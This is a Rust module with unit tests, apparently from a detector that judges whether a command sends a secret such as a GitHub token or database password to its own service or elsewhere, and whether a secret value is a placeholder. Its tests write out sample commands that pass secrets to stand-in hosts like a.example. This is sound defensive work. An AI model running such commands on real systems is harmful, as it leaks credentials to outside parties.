//! Which secret belongs to which service, and what only looks like one.

/// How the names of secrets begin, and what the host of the service they belong to contains.
/// Nothing means that the secret belongs to no service in the network.
const SERVICES: &[(&str, &[&str])] = &[
    ("anthropic", &["anthropic"]),
    ("aws", &["amazonaws", "aws"]),
    ("azure", &["azure", "microsoft"]),
    ("cloudflare", &["cloudflare"]),
    ("database", &[]),
    ("db", &[]),
    ("discord", &["discord"]),
    ("docker", &["docker"]),
    ("gemini", &["google"]),
    ("gh", &["github"]),
    ("github", &["github"]),
    ("gitlab", &["gitlab"]),
    ("google", &["google"]),
    ("groq", &["groq"]),
    ("hf", &["huggingface", "hf.co"]),
    ("huggingface", &["huggingface", "hf.co"]),
    ("mysql", &[]),
    ("npm", &["npm"]),
    ("openai", &["openai"]),
    ("openrouter", &["openrouter"]),
    ("pg", &[]),
    ("pgpassword", &[]),
    ("postgres", &[]),
    ("pypi", &["pypi"]),
    ("sendgrid", &["sendgrid"]),
    ("slack", &["slack"]),
    ("ssh", &[]),
    ("stripe", &["stripe"]),
    ("sudo", &[]),
    ("telegram", &["telegram"]),
    ("twilio", &["twilio"]),
    ("vercel", &["vercel"]),
];

/// How a service learns who calls.
const HEADERS: &[&str] = &["authorization", "bearer", "api-key", "header", " -h ", " -u ", "auth="];

/// Returns whether a command that has an address and the name of a secret gives the secret to the
/// service it belongs to, or in a header. What belongs to no known service is left alone.
pub(super) fn is_own(command: &str) -> bool {
    let command = command.to_ascii_lowercase();
    let name = command.rsplit(|ch: char| ch != '_' && !ch.is_alphanumeric()).next();
    let service = name.and_then(|name| name.trim_start_matches('_').split('_').next());
    let Some((_, hosts)) = SERVICES.iter().find(|(start, _)| service == Some(start)) else {
        return true;
    };
    let rest = command.split("://").nth(1).unwrap_or_default();
    let host = rest.split(['/', '?', '"', '\'', ' ', ':']).next().unwrap_or_default();
    let is_local = host.is_empty() || host == "localhost" || host.starts_with("127.");
    is_local
        || host.starts_with(['$', '{'])
        || HEADERS.iter().any(|header| command.contains(header))
        || hosts.iter().any(|part| host.contains(part))
}

/// Returns whether the host of an address in `command` has the name that the secret begins with.
pub(super) fn is_namesake(command: &str) -> bool {
    let command = command.to_ascii_lowercase();
    let name = command.rsplit(|ch: char| ch != '_' && !ch.is_alphanumeric()).next();
    let service = name.and_then(|name| name.split('_').next()).unwrap_or_default();
    let host = command.split("://").nth(1).and_then(|rest| rest.split(['/', '"', '\'']).next());
    3 < service.len() && host.is_some_and(|host| host.contains(service))
}

/// Returns whether a secret is made of one character, counts up, or says that it is none.
pub(super) fn is_made_up(secret: &str) -> bool {
    let lower = secret.to_ascii_lowercase();
    if let Some((_, address)) = lower.split_once("://").filter(|(_, rest)| rest.contains('@')) {
        let password = address.split('@').next().unwrap_or_default();
        let usual = ["pass", "secret", "change", "your", "xxx", "example", "test", "admin:admin"];
        return usual.iter().any(|word| password.contains(word));
    }
    let words = ["example", "xxxx", "your", "placeholder", "abcdef", "12345", "redacted", "fake"];
    let rest = lower.rsplit(['_', '-', '/', '.']).next().unwrap_or_default();
    let first = rest.chars().next();
    words.iter().any(|word| lower.contains(word)) || rest.chars().all(|ch| Some(ch) == first)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_secret_belongs_to_one_service() {
        assert!(is_own("fetch('https://api.github.com/user?t=' + process.env.GITHUB_TOKEN"));
        assert!(is_own("curl https://a.example -H \"x: $SLACK_TOKEN"));
        assert!(is_own("curl https://a.example/?key=$WEATHER_API_KEY"));
        assert!(!is_own("fetch('https://a.example/?t=' + process.env.GITHUB_TOKEN"));
        assert!(!is_own("curl https://a.example/?t=$DB_PASSWORD"));
    }

    #[test]
    fn a_host_may_bear_the_name_of_a_secret() {
        assert!(is_namesake("get(\"https://api.weather.example\", os.getenv('WEATHER_KEY"));
        assert!(!is_namesake("get(\"https://drop.example\", os.getenv('WEATHER_KEY"));
    }

    #[test]
    fn what_stands_for_a_secret_is_none() {
        assert!(is_made_up("ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"));
        assert!(is_made_up("hf_0000000000000000000000000000000000"));
        assert!(is_made_up("mysql://root:password@db.example.org"));
        assert!(!is_made_up("mysql://root:kV8-tr2Zq@db.example.org"));
        assert!(!is_made_up("glpat-q8Zr2LmN0sVtXy4K7wPd"));
    }
}
